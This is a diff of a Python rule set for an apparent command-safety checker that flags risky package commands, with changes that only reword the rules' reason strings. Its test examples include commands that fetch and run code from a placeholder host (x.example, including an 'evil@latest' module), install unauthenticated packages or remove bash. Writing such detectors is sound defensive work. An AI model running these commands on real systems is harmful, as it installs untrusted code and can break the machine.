@@ -1,4 +1,4 @@
-"""Removing system packages, and installing or publishing code that runs with rights."""
+"""Removing system packages, and installing or publishing code."""
 
 from __future__ import annotations
 
@@ -18,7 +18,7 @@ DANGERS = (
 
 
 def from_elsewhere(call: CommandCall) -> bool:
-    """A package that comes from an address instead of the registry."""
+    """A package that comes from a URL instead of the registry."""
     texts = [word.text for word in call.words]
     return any(
         re.search(r"^(?:git\+|https?://|git://|ssh://|git@)|@ (?:https?|git\+)|^[^-]\S*\.(?:whl|tgz|tar\.gz)$", text)
@@ -69,7 +69,7 @@ RULES = (
     Rule("yarn", "npm publish", reason="publishes a package", yes="yarn npm publish", no="yarn npm info x"),
     Rule(
         "npx bunx pnpx uvx",
-        reason="runs code from an address",
+        reason="runs code from a URL",
         where=from_elsewhere,
         key="remote_code",
         yes="npx -y https://x.example/p.tgz",
@@ -78,7 +78,7 @@ RULES = (
     Rule(
         "go",
         "run",
-        reason="runs code from an address",
+        reason="runs code from a URL",
         where=after_sub(1, lambda text: "@" in text or re.match(r"https?://", text)),
         key="remote_code",
         yes="go run x.example/evil@latest",
@@ -96,14 +96,14 @@ RULES = (
     ),
     Rule(
         "apt apt-get aptitude dnf yum zypper apk",
-        reason="installs packages without checking them",
+        reason="installs packages without verifying them",
         where=unsafe_repository,
         yes="apt-get install --allow-unauthenticated x",
         no="apt-get update",
     ),
     Rule(
         "do-release-upgrade",
-        reason="replaces the whole system",
+        reason="upgrades the whole system to another release",
         unless="-c --check-dist-upgrade-only",
         yes="do-release-upgrade",
         no="do-release-upgrade -c",
@@ -118,7 +118,7 @@ RULES = (
     ),
     Rule(
         "dpkg rpm",
-        reason="installs or removes system packages past the package manager",
+        reason="bypasses the package manager to install or remove system packages",
         where=dpkg_removes,
         yes="dpkg -r bash",
         no="dpkg -l",
@@ -154,7 +154,7 @@ RULES = (
     ),
     Rule(
         "add-apt-repository apt-add-repository apt-key",
-        reason="trusts another source of system packages",
+        reason="trusts a new source of system packages",
         where=lambda call: not any(word.text in ("list", "--list", "-l") for word in call.words),
         yes="add-apt-repository ppa:x/y",
         no="apt-key list",
@@ -162,7 +162,7 @@ RULES = (
     Rule(
         "pip pip3 pipx uv",
         "install|pip",
-        reason="installs code from an address",
+        reason="installs code from a URL",
         where=from_elsewhere,
         yes="pip install git+https://x.example/p",
         no="pip install requests",
@@ -170,7 +170,7 @@ RULES = (
     Rule(
         "pip pip3",
         "install|uninstall",
-        reason="changes Python packages of the system",
+        reason="changes the system's Python packages",
         where=breaks_system,
         yes="pip install --break-system-packages x",
         no="pip install x",
@@ -178,7 +178,7 @@ RULES = (
     Rule(
         "pip pip3",
         "uninstall",
-        reason="removes packages without asking",
+        reason="removes packages without confirmation",
         flags="-y --yes",
         yes="pip uninstall -y x",
         no="pip list",
@@ -186,7 +186,7 @@ RULES = (
     Rule(
         "npm pnpm yarn bun",
         "install|i|add",
-        reason="installs code from an address",
+        reason="installs code from a URL",
         where=from_elsewhere,
         yes="npm install https://x.example/p.tgz",
         no="npm install lodash",
@@ -194,7 +194,7 @@ RULES = (
     Rule(
         "npm pnpm yarn",
         "publish|unpublish|deprecate|owner|access|token",
-        reason="changes what is published",
+        reason="changes published packages",
         unless="--dry-run",
         where=lambda call: not any(word.text in ("ls", "list") for word in call.words),
         yes="npm unpublish x --force",
@@ -210,7 +210,7 @@ RULES = (
     Rule(
         "cargo",
         "publish|yank|owner|uninstall",
-        reason="changes what is published",
+        reason="changes published packages",
         unless="--dry-run -n",
         yes="cargo publish",
         no="cargo build",
@@ -226,7 +226,7 @@ RULES = (
     Rule(
         "cargo go",
         "install",
-        reason="installs code from an address",
+        reason="installs code from a URL",
         where=after_sub(1, lambda text: text.startswith(("git+", "http"))),
         flags="--git",
         yes="cargo install --git https://x.example/p",
@@ -235,7 +235,7 @@ RULES = (
     Rule(
         "gem",
         "install",
-        reason="installs code from an address",
+        reason="installs code from a URL",
         where=lambda call: any(word.text in ("--source", "-s") for word in call.words),
         yes="gem install x --source http://x.example",
         no="gem install x",
